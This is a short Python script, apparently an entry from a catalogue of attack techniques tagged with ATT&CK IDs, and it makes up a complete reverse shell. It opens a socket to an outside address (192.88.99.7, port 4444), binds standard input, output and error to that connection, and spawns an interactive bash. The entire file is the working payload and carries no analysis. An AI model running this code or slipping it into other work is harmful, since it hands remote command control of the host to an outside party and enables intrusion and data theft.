#!/usr/bin/env python3
# title: Python puts a shell behind a connection
# technique: T1059.006 T1059.004
# needs: python3 bash
# short: yes

import os, socket, subprocess
s = socket.socket()
s.connect(("192.88.99.7", 4444))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
subprocess.call(["/bin/bash", "-i"])
